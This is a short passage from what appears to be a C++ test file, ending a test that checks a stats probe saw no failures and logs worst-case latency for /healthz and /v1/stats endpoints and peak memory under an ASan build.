  CHECK(stats.failures_ == 0);
  MESSAGE("scheduled pass over 3 tags (2 hostile): /healthz worst "
          << health.worst_ms_.load() << " ms over " << health.probes_.load()
          << " probes, /v1/stats worst " << stats.worst_ms_.load() << " ms; peak RSS "
          << peak_rss_mib(d.pid()) << " MiB (ASan build)");
}
